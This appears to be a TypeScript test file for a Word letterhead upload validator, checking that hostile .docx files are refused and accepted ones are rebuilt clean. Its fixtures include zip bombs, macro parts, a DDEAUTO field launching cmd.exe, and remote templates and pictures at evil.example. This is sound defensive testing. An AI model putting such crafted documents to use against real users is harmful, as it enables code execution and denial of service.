import { randomBytes } from 'node:crypto';
import { unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';

import { a4, paperFile, paperParts, paragraph, picture, plainPicture } from '../../../testing/paper-files.ts';
import type { PaperFile } from '../../../testing/paper-files.ts';
import { readPaper } from './read-paper.ts';

const header = paragraph('Muster AG');

/** Code of the refusal, and its params; `accepted` without one. */
const refusalOf = async (file: Buffer): Promise<unknown> => {
  try {
    await readPaper(file);
    return 'accepted';
  } catch (error) {
    const { code, params } = error as { code?: string; params?: { names?: string } };
    return params?.names === undefined ? (code ?? error) : `${code}: ${params.names}`;
  }
};

const field = (instruction: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r>` +
  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Muster AG</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';

const textBox =
  '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:anchor><a:graphic><a:graphicData uri="x">' +
  '<wps:wsp><wps:txbx><w:txbxContent><w:p/></w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:anchor></w:drawing></mc:Choice></mc:AlternateContent></w:r></w:p>';

const emf = Buffer.concat([
  Buffer.from('0100000088000000', 'hex'),
  Buffer.alloc(32),
  Buffer.from(' EMF'),
  Buffer.alloc(80),
]);

/** Zip whose entry claims another size than it has. */
const lying = (file: Buffer): Buffer => {
  const copy = Buffer.from(file);
  for (let at = copy.indexOf('PK\u0003\u0004'); at !== -1; at = copy.indexOf('PK\u0003\u0004', at + 4)) {
    copy.writeUInt32LE(10, at + 22);
  }
  return copy;
};

const hostile: Record<string, [Buffer | (() => Buffer | Promise<Buffer>), string]> = {
  'text instead of a file': [Buffer.from('Guten Tag'), 'stationeryNotWord'],
  'zip without Word in it': [Buffer.from(zipSync({ 'a.txt': Buffer.from('a') })), 'stationeryNotWord'],
  'cut in the middle': [() => paperFile({ header }).subarray(0, 700), 'stationeryNotWord'],
  'encrypted file': [
    Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(600),
      Buffer.from('EncryptedPackage', 'utf16le'),
    ]),
    'stationeryEncrypted',
  ],
  'over 2 MB packed': [
    () => paperFile({ header, parts: { 'word/media/a.bin': randomBytes(2.2 * 1024 * 1024) } }),
    'stationeryTooLarge',
  ],
  'zip bomb': [
    () => paperFile({ header, parts: { 'word/media/a.bin': Buffer.alloc(24 * 1024 * 1024) } }),
    'stationeryUnpackedTooLarge',
  ],
  'zip bomb that claims ten bytes': [
    () => lying(paperFile({ header, parts: { 'word/media/a.bin': Buffer.alloc(24 * 1024 * 1024) } })),
    'stationeryUnpackedTooLarge',
  ],
  'more than 200 parts': [
    () =>
      paperFile({
        header,
        parts: Object.fromEntries(Array.from({ length: 201 }, (_, n) => [`word/media/${n}.bin`, 'x'])),
      }),
    'stationeryUnpackedTooLarge',
  ],
  'macros by their part': [paperFile({ header, parts: { 'word/vbaProject.bin': 'x' } }), 'stationeryMacros'],
  'macros by their type': [
    paperFile({ header, mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'stationeryMacros',
  ],
  'embedded object': [
    paperFile({ header, parts: { 'word/embeddings/sheet.xlsx': 'x' } }),
    'stationeryObjects',
  ],
  'object by its relation': [
    paperFile({ header, relations: [{ id: 'o', type: 'oleObject', target: 'media/o.bin' }] }),
    'stationeryObjects',
  ],
  'linked picture': [
    paperFile({
      header,
      relations: [{ id: 'p', type: 'image', target: 'https://evil.example/x.png', external: true }],
    }),
    'stationeryExternal',
  ],
  'template from elsewhere': [
    paperFile({
      header,
      parts: {
        'word/_rels/settings.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
      },
    }),
    'stationeryExternal',
  ],
  'another document inside': [
    paperFile({ header, documentRelations: [{ id: 'c', type: 'aFChunk', target: 'chunk.html' }] }),
    'stationeryImport',
  ],
  'document type': [
    paperFile({ header: paragraph('x'), parts: { 'word/header.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x/>' } }),
    'stationeryEntities',
  ],
  'document type in UTF-16': [
    paperFile({
      header,
      parts: { 'word/theme/theme1.xml': Buffer.from('\uFEFF<!DOCTYPE x><x/>', 'utf16le') },
    }),
    'stationeryEntities',
  ],
  'EMF named PNG': [
    paperFile({
      header: `<w:p>${picture('p', 30, 10)}</w:p>`,
      pictures: { p: { name: 'a.png', bytes: emf } },
    }),
    'stationeryPicture: a.png',
  ],
  'PNG cut in the middle': [
    async () =>
      paperFile({
        header: `<w:p>${picture('p', 30, 10)}</w:p>`,
        pictures: { p: { name: 'a.png', bytes: (await plainPicture(300, 100, '#a02020')).subarray(0, 120) } },
      }),
    'stationeryPicture: a.png',
  ],
  'text box': [paperFile({ header: header + textBox }), 'stationeryShapes'],
  'old drawing': [
    paperFile({ header: `${header}<w:p><w:r><w:pict><v:shape/></w:pict></w:r></w:p>` }),
    'stationeryShapes',
  ],
  'DDE field': [
    paperFile({ header: field(' DDEAUTO c:\\\\cmd.exe "/k calc" ') }),
    'stationeryField: DDEAUTO',
  ],
  'picture from elsewhere by a field': [
    paperFile({ header: field(' INCLUDEPICTURE "https://evil.example" ') }),
    'stationeryField: INCLUDEPICTURE',
  ],
  'field in one element': [
    paperFile({ header: '<w:p><w:fldSimple w:instr="DATE"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>' }),
    'stationeryField: DATE',
  ],
  'unknown placeholder': [
    paperFile({ header: paragraph('{{firma}} {{ort}}') }),
    'stationeryPlaceholder: firma',
  ],
  'nothing in header and footer': [paperFile({ header: paragraph('') }), 'stationeryEmpty'],
  'a page number alone': [paperFile({ footer: field('PAGE') }), 'stationeryEmpty'],
  'no room for the text': [
    paperFile({ header, page: a4.replace('w:right="1134"', 'w:right="4400"') }),
    'stationeryTooNarrow',
  ],
  'page of ten metres': [
    paperFile({ header, page: a4.replace('w:h="16838"', 'w:h="567000"') }),
    'stationeryPage',
  ],
  'page across': [
    paperFile({ header, page: a4.replace('11906', '16838').replace('16838"/>', '11906"/>') }),
    'stationeryPage',
  ],
  'nested too deep': [
    paperFile({
      header: `${'<w:sdt><w:sdtContent>'.repeat(60)}${header}${'</w:sdtContent></w:sdt>'.repeat(60)}`,
    }),
    'stationeryTooComplex',
  ],
  'relations without end': [
    () =>
      paperFile({
        header,
        relations: Array.from({ length: 3000 }, (_, n) => ({
          id: `x${n}`,
          type: 'image',
          target: 'media/x.png',
        })),
      }),
    'stationeryTooComplex',
  ],
  'thousands of paragraphs': [paperFile({ header: header.repeat(3000) }), 'stationeryTooComplex'],
};

describe('a hostile or unfit file is refused with its reason', () => {
  it.each(Object.entries(hostile))('%s', async (_, [file, reason]) => {
    expect(await refusalOf(typeof file === 'function' ? await file() : file)).toBe(reason);
  });

  it('two parts of one name', async () => {
    const names = ['word/header.xml', 'word/heade_.xml'];
    const file = paperFile({ header, parts: { [names[1] ?? '']: '<a/>' } });
    const doubled = Buffer.from(
      file.toString('latin1').replaceAll('word/heade_.xml', 'word/header.xml'),
      'latin1',
    );
    expect(await refusalOf(doubled)).toBe('stationeryNotWord');
  });
});

/** Parts of an accepted paper as text. */
const storedOf = async (file: PaperFile) => {
  const { docx, warnings, page } = await readPaper(paperFile(file));
  const parts = Object.fromEntries(
    Object.entries(unzipSync(docx)).map(([name, bytes]) => [name, Buffer.from(bytes).toString('utf8')]),
  );
  return { parts, warnings, page };
};

describe('an accepted paper is written anew', () => {
  it('drops the text and whatever is not on the list, and keeps the words', async () => {
    const { parts } = await storedOf({
      header:
        '<w:p onclick="x"><w:pPr><w:framePr w:w="100"/><w:jc w:val="right"/><w:evil w:val="1"/></w:pPr><w:r w:rsidR="00AA"><w:rPr><w:b/><w:color w:val="FF0000&quot;/&gt;"/></w:rPr><w:t>Muster &amp; Söhne &lt;AG&gt; {d.title}</w:t></w:r><evil xmlns="urn:evil">böse</evil></w:p>',
      body: paragraph('Vertraulicher Text'),
    });
    const all = Object.values(parts).join('\n');
    for (const word of ['Vertraulicher', 'evil', 'böse', 'onclick', 'framePr', 'rsidR', 'FF0000']) {
      expect(all).not.toContain(word);
    }
    expect(parts['word/headerNext.xml']).toContain('Muster &amp; Söhne &lt;AG&gt; {d.title}');
    expect(parts['word/headerNext.xml']).toContain('<w:jc w:val="right"/>');
    expect(Object.keys(parts).toSorted()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'word/_rels/document.xml.rels',
      'word/document.xml',
      'word/footerFirst.xml',
      'word/footerNext.xml',
      'word/headerFirst.xml',
      'word/headerNext.xml',
    ]);
  });

  it('puts placeholders together that Word has split, also with spaces and capitals', async () => {
    const run = (text: string, bold = false) =>
      `<w:r>${bold ? '<w:rPr><w:b/></w:rPr>' : ''}<w:t xml:space="preserve">${text}</w:t></w:r>`;
    const { parts } = await storedOf({
      header: `<w:p>${run('a{{')}<w:proofErr w:type="spellStart"/>${run('Organi', true)}${run('sation}')}${run('} b {{ ORT')}${run(' }} c', true)}</w:p>`,
    });
    const texts = [...(parts['word/headerNext.xml'] ?? '').matchAll(/<w:t [^>]*>([^<]*)</g)].map(
      ([, text]) => text,
    );
    expect(texts).toEqual(['a{{organisation}}', ' b {{ort}}', ' c']);
  });

  it('turns page numbers of Word into placeholders, and a link into its words', async () => {
    const { parts, warnings, page } = await storedOf({
      footer: `${field('PAGE \\* MERGEFORMAT')}<w:p><w:hyperlink r:id="l"><w:r><w:t>muster.ch</w:t></w:r></w:hyperlink></w:p>`,
      relations: [{ id: 'l', type: 'hyperlink', target: 'https://muster.ch/?id=7', external: true }],
    });
    expect(page.numbersPages).toBe(true);
    expect(parts['word/footerNext.xml']).toContain('{{seite}}');
    expect(Object.values(parts).join('')).not.toMatch(/id=7|hyperlink|fldChar|instrText/);
    expect(warnings).toEqual([{ kind: 'link', name: 'muster.ch', substitute: null }]);
  });

  it('decodes pictures anew, uses one file for equal ones and keeps the alternative text', async () => {
    const bytes = Buffer.concat([
      await plainPicture(400, 100, '#204080'),
      Buffer.from('<script>secret</script>'),
    ]);
    const { docx } = await readPaper(
      paperFile({
        headerFirst: `<w:p>${picture('p', 40, 10, 'Logo der Muster AG')}${picture('p', 40, 10)}</w:p>`,
        header: paragraph('x'),
        pictures: { p: { name: 'logo.png', bytes } },
      }),
    );
    const parts = unzipSync(docx);
    expect(Object.keys(parts).filter((name) => name.startsWith('word/media/'))).toEqual([
      'word/media/paper1.png',
    ]);
    expect(Buffer.from(parts['word/media/paper1.png'] ?? []).includes('secret')).toBe(false);
    expect(Buffer.from(parts['word/headerFirst.xml'] ?? []).toString()).toContain(
      'descr="Logo der Muster AG"',
    );
  });

  it('names the substitute of a font that the server lacks', async () => {
    const { warnings } = await storedOf({
      header: paragraph('Haus').replace(
        '<w:r>',
        '<w:r><w:rPr><w:rFonts w:ascii="Georgia" w:hAnsi="Georgia"/></w:rPr>',
      ),
    });
    expect(warnings).toEqual([{ kind: 'font', name: 'Georgia', substitute: 'DejaVu Serif' }]);
  });

  it('knows other prefixes than those of Word', async () => {
    const parts = paperParts({ header });
    const text = parts['word/header.xml']?.toString() ?? '';
    const other = text.replaceAll('w:', 'q:').replace('xmlns:w=', 'xmlns:q=');
    const file = Buffer.from(zipSync({ ...parts, 'word/header.xml': Buffer.from(other) }));
    expect(await refusalOf(file)).toBe('accepted');
  });

  it('equal files make equal papers', async () => {
    const file = paperFile({ header });
    const [first, second] = [await readPaper(file), await readPaper(file)];
    expect(second.docx.equals(first.docx)).toBe(true);
  });
});
